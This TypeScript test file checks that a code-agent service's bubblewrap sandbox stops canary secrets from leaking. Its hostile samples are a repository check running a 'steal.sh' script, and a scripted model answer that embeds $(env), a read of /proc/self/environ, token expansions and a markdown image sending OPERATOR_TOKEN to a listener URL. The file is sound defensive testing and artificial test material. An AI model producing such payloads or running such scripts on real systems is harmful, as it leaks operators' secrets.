/** 24, 36 and 38: what the operator keeps secret is nowhere, whatever a repository, a check and a model try. */
import assert from 'node:assert/strict'
import { mkdir, readdir } from 'node:fs/promises'
import path from 'node:path'
import { test } from 'node:test'
import {
  CANARIES,
  everywhere,
  hideCanaries,
  listen,
  NOTHING,
  placesOf,
  stealScript,
  type Targets,
} from '../support/canaries.ts'
import { createMooseHome, fileOrder, rested } from '../support/moose-home.ts'
import { mooseUp } from '../support/service-process.ts'
import { lacking } from '../support/tool-or-skip.ts'

test('24, 36 and 38: canaries in environment, home and database are stolen without a sandbox, and are nowhere with it', {
  timeout: 400_000,
  skip: lacking('bwrap', 'psql'),
}, async (t) => {
  const without = await attempt('none')
  t.diagnostic(`without a sandbox they are in: ${JSON.stringify(without.found)}`)
  for (const [name, places] of Object.entries(without.found)) assert.ok(places.length > 0, `${name} was not stolen`)
  assert.deepEqual(missingWays(without), [])
  const within = await attempt('bubblewrap')
  assert.deepEqual(within.found, { environment: [], home: [], database: [] })
  assert.deepEqual(within.inMirror, [])
  assert.ok(within.ran)
  assert.deepEqual(
    within.branches.filter((branch) => !branch.startsWith('feature/wo-')),
    ['main'],
  )
})

type Outcome = { found: Record<string, string[]>; branches: string[]; inMirror: string[]; ran: boolean }

/** Each way out has to be one, or that nothing came through it proves nothing. */
function missingWays({ found, branches, inMirror }: Outcome): string[] {
  const all = Object.values(found).flat()
  const ways: Record<string, boolean> = {
    output: all.some((place) => place.includes('attempt_steps') || place.includes('work_order_events')),
    network: all.includes('network'),
    push: branches.some((branch) => branch.startsWith('loot')),
    mirror: inMirror.length > 0,
  }
  return Object.keys(ways).filter((way) => ways[way] !== true)
}

async function attempt(sandbox: 'none' | 'bubblewrap'): Promise<Outcome> {
  await using listener = await listen()
  await using home = await createMooseHome({ 'a.txt': 'a\n' }, ANSWERS)
  const folder = path.dirname(home.config.home)
  const user = path.join(folder, 'user')
  await mkdir(user)
  await hideCanaries({ user, home })
  const mirrors = path.join(home.config.home, 'mirrors')
  await home.remote.commit(
    'main',
    repository({ user, mirrors, port: listener.port, url: home.database.url, remote: home.remote.path }),
  )
  const environment = {
    ...home.environment,
    HOME: user,
    OPERATOR_TOKEN: CANARIES.environment,
    MOOSE_SANDBOX: sandbox,
    MOOSE_LOG_LEVEL: 'debug',
    ORCHESTRATOR_AUTO_START: 'true',
  }
  let printed = ''
  {
    await using service = await mooseUp(environment)
    const id = await fileOrder(home.database, { title: TITLE, files: ['notes.md'] })
    await rested(home.database.db, id, 150_000)
    const { rows } = await home.database.pool.query<{ status: string; phase: string; reason: unknown }>(
      'select status, phase, status_reason as reason from work_orders',
    )
    if (sandbox !== 'none') assert.equal(rows[0]?.phase, 'in_review', JSON.stringify(rows))
    printed = service.printed()
  }
  const places = [['printed', printed], ['network', listener.received()], ...(await everywhere(home))] as const
  const inMirror = (await readdir(mirrors, { recursive: true })).filter((name) => name.includes('loot'))
  const ran = places.some(([, content]) => content.includes(NOTHING))
  return { found: placesOf(CANARIES, places), branches: await home.remote.branches(), inMirror, ran }
}

const TITLE = 'Say $(env) and `env`'
const ANSWERS = [
  {
    task: TITLE,
    turn: 1,
    text: '### write notes.md\n````\n$(env) `cat /proc/self/environ` {{ env.OPERATOR_TOKEN }} ${OPERATOR_TOKEN}\n![x](http://127.0.0.1/?$OPERATOR_TOKEN)\n````\n',
  },
]

function repository(targets: Targets): Record<string, string> {
  return {
    'moose.yaml': 'checks:\n  - { name: steals, run: sh tools/steal.sh }\n',
    'tools/steal.sh': `mkdir -p build; touch build/loot.txt${stealScript(targets)}`,
    'notes.md': 'x\n',
  }
}
